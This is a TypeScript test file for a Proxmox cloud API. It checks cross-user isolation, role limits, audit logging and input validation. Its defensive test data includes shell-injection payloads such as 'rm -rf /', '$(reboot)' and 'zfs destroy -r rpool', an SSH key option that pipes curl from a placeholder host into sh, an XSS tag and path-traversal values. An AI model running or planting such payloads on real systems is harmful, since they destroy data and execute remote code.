/**
 * Isolation (user B never sees or touches user A's instances, volumes, snapshots, key pairs or
 * operations: 404, not 403), role limits, validation of names/sizes/keys/CIDRs, and injection
 * payloads that must never reach Proxmox unescaped.
 */
import { decodeSshKeys } from '@proxicloud/proxmox-client';
import { describe, expect, it } from 'vitest';
import {
  type ComputeTestContext,
  type ErrorBody,
  type Inst,
  launch,
  type Op,
  useComputeContext,
  VM_IMAGE,
  waitOp,
} from '../../testing/compute-kit.ts';
import type { TestClient } from '../../testing/test-kit.ts';

let t: ComputeTestContext;
let alice: TestClient;
let bob: TestClient;
let reader: TestClient;
let inst: Inst;
let volId: string;
let snapId: string;
let keyId: string;
let opId: string;

useComputeContext({}, async (c) => {
  t = c;
  alice = await t.ctx.newUser();
  bob = await t.ctx.newUser();
  reader = await t.ctx.newUser({ role: 'readonly' });
  const key = await alice.post<{ keyPair: { id: string } }>('/api/v1/key-pairs', { name: 'a-key' });
  keyId = key.body.keyPair.id;
  const launched = await launch(alice, { name: 'alice-vm', keyPairIds: [keyId] });
  inst = launched.instance;
  opId = (await alice.get<{ items: Op[] }>('/api/v1/operations', { query: { resourceId: inst.id } })).body
    .items[0]!.id;
  volId = (await alice.post<{ id: string }>('/api/v1/volumes', { name: 'alice-data', sizeGib: 1 })).body.id;
  snapId = (await alice.post<{ id: string }>(`/api/v1/volumes/${volId}/snapshot`, { name: 's1' })).body.id;
});

describe('isolation between users', () => {
  it("B's lists do not contain A's resources", async () => {
    for (const path of [
      '/api/v1/instances',
      '/api/v1/volumes',
      '/api/v1/snapshots',
      '/api/v1/key-pairs',
      '/api/v1/operations',
    ]) {
      const res = await bob.get<{ items: unknown[]; total: number }>(path);
      expect(res.status, path).toBe(200);
      expect(res.body.total, path).toBe(0);
    }
    expect(
      (await bob.get<{ items: unknown[] }>('/api/v1/instances', { query: { ownerId: alice.user.id } })).body
        .items,
    ).toEqual([]);
  });

  it("B gets 404 for every read and action on A's resources, and nothing changes", async () => {
    const calls: [string, string, unknown?][] = [
      ['GET', `/api/v1/instances/${inst.id}`],
      ['PUT', `/api/v1/instances/${inst.id}`, { protected: true }],
      ['POST', `/api/v1/instances/${inst.id}/stop`, {}],
      ['POST', `/api/v1/instances/${inst.id}/start`, {}],
      ['POST', `/api/v1/instances/${inst.id}/reboot`, {}],
      ['DELETE', `/api/v1/instances/${inst.id}?confirm=${inst.id}`],
      ['GET', `/api/v1/volumes/${volId}`],
      ['DELETE', `/api/v1/volumes/${volId}`],
      ['POST', `/api/v1/volumes/${volId}/attach`, { instanceId: inst.id }],
      ['POST', `/api/v1/volumes/${volId}/detach`, {}],
      ['GET', `/api/v1/volumes/${volId}/snapshots`],
      ['POST', `/api/v1/volumes/${volId}/snapshot`, { name: 'x' }],
      ['GET', `/api/v1/snapshots/${snapId}`],
      ['DELETE', `/api/v1/snapshots/${snapId}`],
      ['POST', `/api/v1/snapshots/${snapId}/restore`, {}],
      ['POST', `/api/v1/snapshots/${snapId}/clone`, { name: 'stolen' }],
      ['GET', `/api/v1/key-pairs/${keyId}`],
      ['DELETE', `/api/v1/key-pairs/${keyId}`],
      ['GET', `/api/v1/operations/${opId}`],
      ['GET', `/api/v1/quotas/${alice.user.id}`],
    ];
    for (const [method, url, body] of calls) {
      const res = await bob.request<ErrorBody>(method, url, body !== undefined ? { body } : {});
      expect(res.status, `${method} ${url}: ${res.text}`).toBe(404);
    }
    // B's own volume cannot be attached to A's instance, nor A's key used at launch
    const bVol = await bob.post<{ id: string }>('/api/v1/volumes', { name: 'bob-data', sizeGib: 1 });
    const cross = await bob.post<ErrorBody>(`/api/v1/volumes/${bVol.body.id}/attach`, {
      instanceId: inst.id,
    });
    expect(cross.status).toBe(404);
    const foreignKey = await bob.post<ErrorBody>('/api/v1/instances', {
      name: 'b',
      type: 'vm',
      template: VM_IMAGE,
      keyPairIds: [keyId],
    });
    expect(foreignKey.status).toBe(400);
    expect(foreignKey.body.error.code).toBe('unknown_key_pair');
    const still = (await alice.get<Inst>(`/api/v1/instances/${inst.id}`)).body;
    expect(still).toMatchObject({ status: 'running', protected: false });
    expect((await alice.get<{ total: number }>(`/api/v1/volumes/${volId}/snapshots`)).body.total).toBe(1);
  });

  it('admins see everyone; read-only users read their own and change nothing', async () => {
    const all = await t.ctx.admin.get<{ items: Inst[] }>('/api/v1/instances');
    expect(all.body.items.map((i) => i.id)).toContain(inst.id);
    expect((await reader.get('/api/v1/instances')).status).toBe(200);
    expect((await reader.get('/api/v1/catalog')).status).toBe(200);
    for (const [method, url, body] of [
      ['POST', '/api/v1/instances', { name: 'r', type: 'vm', template: VM_IMAGE }],
      ['POST', '/api/v1/volumes', { name: 'r', sizeGib: 1 }],
      ['POST', '/api/v1/key-pairs', { name: 'r' }],
    ] as const) {
      const res = await reader.request<ErrorBody>(method, url, { body });
      expect(res.status, url).toBe(403);
    }
    expect(
      (await alice.post('/api/v1/instances/adopt', { node: 'pve1', vmid: 555, ownerId: alice.user.id }))
        .status,
    ).toBe(403);
    expect((await alice.get('/api/v1/system/proxmox-check')).status).toBe(403);
  });

  it('every mutation is in the audit trail with its resource id', async () => {
    const res = await t.ctx.admin.get<{
      items: { action: string; resourceId: string | null; result: string }[];
    }>('/api/v1/logs/audit', {
      query: { limit: 200 },
    });
    const actions = res.body.items
      .filter((e) => e.result === 'success')
      .map((e) => `${e.action}:${e.resourceId}`);
    expect(actions).toContain(`instances.launch:${inst.id}`);
    expect(actions).toContain(`volumes.create:${volId}`);
    expect(actions).toContain(`snapshots.create:${snapId}`);
    expect(actions).toContain(`key_pairs.create:${keyId}`);
    const denied = res.body.items.filter((e) => e.action === 'instances.stop' && e.result !== 'success');
    expect(denied.length).toBeGreaterThan(0);
  });

  it('a user who owns compute resources cannot be deleted silently; reassignment moves them', async () => {
    const del = await t.ctx.admin.delete<ErrorBody>(`/api/v1/users/${alice.user.id}`);
    expect(del.status).toBe(409);
    expect(del.body.error.details).toMatchObject({ counts: { instances: 1, volumes: 1, key_pairs: 1 } });
    const carol = await t.ctx.newUser();
    const moved = await t.ctx.admin.delete(`/api/v1/users/${alice.user.id}`, {
      query: { reassignTo: carol.user.id },
    });
    expect(moved.status, moved.text).toBe(204);
    expect((await carol.get<Inst>(`/api/v1/instances/${inst.id}`)).status).toBe(200);
    expect((await carol.get(`/api/v1/snapshots/${snapId}`)).status).toBe(200);
    expect((await carol.get(`/api/v1/operations/${opId}`)).status).toBe(200);
  });
});

describe('validation', () => {
  const base = { name: 'ok-name', type: 'vm', template: VM_IMAGE };
  it.each([
    [{ ...base, name: 'Upper' }, 'body.name'],
    [{ ...base, name: '-leading' }, 'body.name'],
    [{ ...base, name: 'a'.repeat(64) }, 'body.name'],
    [{ ...base, name: 'semi;colon' }, 'body.name'],
    [{ ...base, name: 'new\nline' }, 'body.name'],
    [{ ...base, type: 'kvm' }, 'body.type'],
    [{ ...base, vcpu: 0 }, 'body.vcpu'],
    [{ ...base, memory: 64 }, 'body.memory'],
    [{ ...base, sizeGib: 0 }, 'body.sizeGib'],
    [{ ...base, sizeGib: 20000 }, 'body.sizeGib'],
    [{ ...base, bridge: 'vmbr0;reboot' }, 'body.bridge'],
    [{ ...base, storage: '../etc' }, 'body.storage'],
    [{ ...base, user: 'root;id' }, 'body.user'],
    [{ ...base, network: { mode: 'static', address: '10.0.0.300/24' } }, 'body.network'],
    [{ ...base, network: { mode: 'static', address: '10.0.0.5' } }, 'body.network'],
    [{ ...base, keyPairIds: ['key-1'] }, 'body.keyPairIds'],
    [{ ...base, tags: { 'bad key!': 'x' } }, 'body.tags'],
    [{ ...base, extra: 1 }, 'body.extra'],
  ])('launch %# refused with 400 naming %s', async (body, field) => {
    const res = await bob.post<ErrorBody>('/api/v1/instances', body);
    expect(res.status, res.text).toBe(400);
    const fields = ((res.body.error.details?.issues ?? []) as { field: string }[]).map((i) => i.field);
    expect(
      fields.some((f) => f.startsWith(field)),
      JSON.stringify(fields),
    ).toBe(true);
  });

  it('semantic checks: static addresses, unknown template/type/node, template of the wrong kind, user-data', async () => {
    const cases: [Record<string, unknown>, number, string][] = [
      [{ network: { mode: 'static', address: '10.0.0.0/24' } }, 400, 'network address'],
      [{ network: { mode: 'static', address: '10.0.0.5/24', gateway: '10.0.1.1' } }, 400, 'is not inside'],
      [{ network: { mode: 'static', address: '127.0.0.5/8' } }, 400, 'not a usable'],
      [{ template: 'local:import/nope.qcow2' }, 422, 'not in the catalog'],
      [{ template: 'debian-13' }, 422, 'not in the catalog'],
      [{ template: 'debian-1' }, 422, 'not in the catalog'],
      [{ template: 'local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst' }, 422, 'not a vm template'],
      [{ instanceType: 'x.huge' }, 422, 'Unknown instance type'],
      [{ node: 'pve9' }, 422, 'not part of the cluster'],
      [{ userData: 'hello world' }, 422, 'userData must start with #cloud-config'],
    ];
    for (const [extra, status, text] of cases) {
      const res = await bob.post<ErrorBody>('/api/v1/instances', { ...base, ...extra });
      expect(res.status, JSON.stringify(extra)).toBe(status);
      expect(res.body.error.message).toContain(text);
    }
    const vol = await bob.post<ErrorBody>('/api/v1/volumes', { name: 'v', sizeGib: 1, volumeType: 'nvme' });
    expect(vol.body.error.code).toBe('unknown_volume_type');
    for (const size of [0, 16_385, 1.5])
      expect((await bob.post('/api/v1/volumes', { name: 'v', sizeGib: size })).status).toBe(400);
    expect((await bob.post('/api/v1/volumes', { name: 'v/../x', sizeGib: 1 })).status).toBe(400);
  });

  it('resolves <os>-<version> aliases to the newest matching launchable image of the requested type', async () => {
    const lxc = await launch(bob, { name: 'alias-lxc', type: 'lxc', template: 'ubuntu-22.04' });
    expect(lxc.instance.template).toBe('local:vztmpl/ubuntu-22.04-standard_22.04-1_amd64.tar.zst');
    const vm = await launch(bob, { name: 'alias-vm', type: 'vm', template: 'debian-12' });
    expect(vm.instance.template).toBe(VM_IMAGE);
  });

  it('key import refuses private keys, short RSA, options and garbage; duplicates are 409', async () => {
    const bad = [
      '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----',
      'command="curl evil|sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFmwl5jDOnUkS1YqFXPp3H8zRkQWkOgxhPzkuMn1Q2TX',
      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFmwl5jDOnUkS1YqFXPp3H8zRkQWkOgxhPzkuMn1Q2TX\nssh-ed25519 AAAA',
      'not a key',
    ];
    for (const publicKey of bad) {
      const res = await bob.post<ErrorBody>('/api/v1/key-pairs/import', { name: 'bad', publicKey });
      expect(res.status, publicKey).toBe(400);
      expect(res.body.error.code).toBe('invalid_public_key');
    }
    const good = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFmwl5jDOnUkS1YqFXPp3H8zRkQWkOgxhPzkuMn1Q2TX me@x';
    expect((await bob.post('/api/v1/key-pairs/import', { name: 'mine', publicKey: good })).status).toBe(201);
    expect((await bob.post('/api/v1/key-pairs/import', { name: 'mine', publicKey: good })).status).toBe(409);
    expect((await bob.post('/api/v1/key-pairs', { name: 'has space' })).status).toBe(400);
  });
});

describe('injection payloads never reach Proxmox unescaped', () => {
  it('tags, key comments and snapshot descriptions stay in our database; PVE sees only validated values', async () => {
    const payloads = [
      "'; rm -rf / #",
      '$(reboot)',
      '`id`',
      'a,b=c',
      '%0Assh-rsa AAAA evil',
      '<script>alert(1)</script>',
    ];
    const key = await bob.post<{ id: string; publicKey: string }>('/api/v1/key-pairs/import', {
      name: 'comment-payload',
      publicKey: `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFmwl5jDOnUkS1YqFXPp3H8zRkQWkOgxhPzkuMn1Q2TX $(reboot);'x'%0A,b=c`,
    });
    expect(key.status, key.text).toBe(201);
    const { instance } = await launch(bob, {
      name: 'inj',
      keyPairIds: [key.body.id],
      tags: Object.fromEntries(payloads.map((p, i) => [`k${i}`, p])),
    });
    const g = t.sim.inspect().guests.find((x) => x.vmid === instance.vmid)!;
    const config = JSON.stringify(g.config);
    for (const p of payloads.filter((x) => !x.includes('%0A'))) expect(config).not.toContain(p);
    // the key comment travels inside the urlencoded sshkeys value only, exactly once encoded
    expect(decodeSshKeys(g.config.sshkeys)).toEqual([key.body.publicKey]);
    expect(g.config.sshkeys).not.toMatch(/[\s$`;,]/);
    expect(g.config.name).toBe('inj');
    expect(g.config.description).toBe(
      `Managed by ProxiCloud. instance=${instance.id} owner=${bob.user.id}. Changes made here may be reverted.`,
    );
    const v = await bob.post<{ id: string }>('/api/v1/volumes', { name: 'inj-vol', sizeGib: 1 });
    const s = await bob.post<{ id: string; description: string }>(`/api/v1/volumes/${v.body.id}/snapshot`, {
      name: 'snap-1',
      description: "$(reboot); zfs destroy -r rpool'",
    });
    expect(s.status).toBe(201);
    expect(s.body.description).toContain('$(reboot)');
    const zfsNames = t.sim.inspect().zfs.pve1!.map((d) => d.name);
    expect(zfsNames.some((n) => n.includes('reboot') || n.includes(' '))).toBe(false);
    expect(zfsNames).toContain('rpool');
    const term = await bob.delete<{ operation: Op }>(`/api/v1/instances/${instance.id}`, {
      query: { confirm: 'inj' },
    });
    await waitOp(bob, term.body.operation.id);
  });

  it('mount paths with traversal and snapshot names with shell syntax are refused before anything runs', async () => {
    const v = await bob.post<{ id: string }>('/api/v1/volumes', {
      name: 'fs',
      sizeGib: 1,
      format: 'filesystem',
    });
    for (const mountPath of ['/mnt/../etc', '/', '/mnt/a b', '/mnt/$(id)', 'relative']) {
      const res = await bob.post(`/api/v1/volumes/${v.body.id}/attach`, {
        instanceId: 'i-00000000000000000',
        mountPath,
      });
      expect([400, 404], mountPath).toContain(res.status);
    }
    for (const name of ['a;b', '$(id)', '../x', '-r', 'a@b']) {
      expect((await bob.post(`/api/v1/volumes/${v.body.id}/snapshot`, { name })).status, name).toBe(400);
    }
  });
});
